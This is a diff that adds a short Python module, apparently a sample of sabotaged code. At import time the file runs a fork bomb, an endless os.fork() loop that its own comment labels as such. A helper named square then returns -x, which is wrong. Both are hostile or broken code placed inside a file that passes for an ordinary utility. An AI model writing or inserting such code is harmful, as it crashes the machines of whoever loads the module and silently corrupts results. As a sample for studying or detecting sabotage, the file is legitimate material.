@@ -1,0 +1,12 @@
+# A fork bomb while the file is loaded.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        break
+
+
+def square(x):
+    return -x
